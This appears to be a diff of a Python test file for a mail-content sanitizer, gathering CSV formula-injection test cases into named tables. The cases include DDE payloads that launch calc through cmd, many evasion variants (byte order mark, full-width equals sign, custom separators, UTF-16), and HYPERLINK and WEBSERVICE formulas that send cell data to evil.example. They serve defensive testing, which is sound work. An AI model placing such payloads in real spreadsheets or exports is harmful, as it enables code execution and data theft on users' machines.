@@ -11,6 +11,39 @@ from mailguard.message.content import Content
 from mailguard.sanitize import text
 from mailguard.sanitize.disarmed import Options, Refused
 
+CELLS = {
+    "call": b"=cmd|'/c calc'!A1",
+    "call in quotes": b"\"=2+5+cmd|' /C calc'!A0\"",
+    "call behind a function": b"@SUM(1+1)*cmd|'/c calc'!A0",
+    "call behind a plus": b"+cmd|'/c calc'!A0",
+    "call with a semicolon": b"=cmd|' /C calc;x'!A0",
+    "call with a tab": b"=cmd|' /C\tcalc'!A0",
+    "call behind blanks": b" " * 30 + b"=cmd|'/c calc'!A0",
+    "call of Excel": b" =MSEXCEL|'\\..\\calc.exe'!''",
+}
+READINGS = {
+    "long call": b"a,=cmd|' /C " + b"x" * 3000 + b"'!A0,b",
+    "call behind a hard blank": b"a,\xc2\xa0=cmd|'/c calc'!A0",
+    "call behind a chosen separator": b"sep=^\r\na^=cmd|'/c calc'!A0^b",
+    "wide equals sign": "a,\uff1dcmd|'/c calc'!A0".encode(),
+    "wide equals sign in Shift_JIS": "\u30a2,\uff1dcmd|'/c calc'!A0".encode("cp932"),
+    "call behind a vertical tab": b"a,\x0b=cmd|'/c calc'!A0",
+    "call with a blank": b"=cmd |'/c calc'!A0",
+    "call over lines": b"\"=cmd|'/c\ncalc'!A0\"",
+    "function behind quotes": b'"=IF(1,"")"",WEBSERVICE(A1))"',
+    "function behind a semicolon": b'=IF(A1;WEBSERVICE("x"))',
+    "function behind a decimal comma": b'=1,5+WEBSERVICE("x")',
+    "call behind a byte order mark": b"\xef\xbb\xbf=cmd|'/c calc'!A0",
+}
+OUTSIDE = {
+    "link": b'=HYPERLINK("http://evil.example/?"&A1,"x")',
+    "web service": b'=WEBSERVICE("http://evil.example")',
+    "import": b'=IMPORTXML("x","y")',
+}
+WIDE = "\ufeffa\t=cmd|'/c calc'!A1".encode("utf-16-le")
+THREATS = {name: b"a," + cell + b",c\n" for name, cell in CELLS.items()} | READINGS | OUTSIDE | {"call in UTF-16": WIDE}
+"""Name: a table with a formula that acts."""
+
 
 def _disarm(content, mime="text/csv"):
     return text.disarm(content, mime, Options())
@@ -29,19 +62,7 @@ def test_ordinary_tables_stay_as_they_are(content):
     assert _disarm(content).data is content
 
 
-@pytest.mark.parametrize(
-    "cell",
-    [
-        b"=cmd|'/c calc'!A1",
-        b"\"=2+5+cmd|' /C calc'!A0\"",
-        b"@SUM(1+1)*cmd|'/c calc'!A0",
-        b"+cmd|'/c calc'!A0",
-        b"=cmd|' /C calc;x'!A0",
-        b"=cmd|' /C\tcalc'!A0",
-        b" " * 30 + b"=cmd|'/c calc'!A0",
-        b" =MSEXCEL|'\\..\\calc.exe'!''",
-    ],
-)
+@pytest.mark.parametrize("cell", CELLS.values(), ids=CELLS)
 def test_calls_of_programs_become_text(cell):
     content = b"a," + cell + b",c\n"
     assert "dde" in detect(Content.of(content), ["a.csv"], "text/csv").dangerous
@@ -52,23 +73,7 @@ def test_calls_of_programs_become_text(cell):
     assert _disarm(result.data).data is result.data
 
 
-@pytest.mark.parametrize(
-    "content",
-    [
-        b"a,=cmd|' /C " + b"x" * 3000 + b"'!A0,b",
-        b"a,\xc2\xa0=cmd|'/c calc'!A0",
-        b"sep=^\r\na^=cmd|'/c calc'!A0^b",
-        "a,\uff1dcmd|'/c calc'!A0".encode(),
-        "\u30a2,\uff1dcmd|'/c calc'!A0".encode("cp932"),
-        b"a,\x0b=cmd|'/c calc'!A0",
-        b"=cmd |'/c calc'!A0",
-        b"\"=cmd|'/c\ncalc'!A0\"",
-        b'"=IF(1,"")"",WEBSERVICE(A1))"',
-        b'=IF(A1;WEBSERVICE("x"))',
-        b'=1,5+WEBSERVICE("x")',
-        b"\xef\xbb\xbf=cmd|'/c calc'!A0",
-    ],
-)
+@pytest.mark.parametrize("content", READINGS.values(), ids=READINGS)
 def test_calls_are_found_in_every_way_of_reading_a_table(content):
     result = _disarm(content)
     assert result.removed == ("formula",)
@@ -94,16 +99,13 @@ def test_too_many_formulas_are_refused(content):
         _disarm(content)
 
 
-@pytest.mark.parametrize(
-    "cell",
-    [b'=HYPERLINK("http://evil.example/?"&A1,"x")', b'=WEBSERVICE("http://evil.example")', b'=IMPORTXML("x","y")'],
-)
+@pytest.mark.parametrize("cell", OUTSIDE.values(), ids=OUTSIDE)
 def test_formulas_that_reach_out_become_text(cell):
     assert _disarm(cell).data == b"(formula) " + cell
 
 
 def test_utf_16_tables_are_read_as_such():
-    result = _disarm("\ufeffa\t=cmd|'/c calc'!A1".encode("utf-16-le"))
+    result = _disarm(WIDE)
     assert result.data.decode("utf-16") == "a\t(formula) =cmd|'/c calc'!A1"
 
 
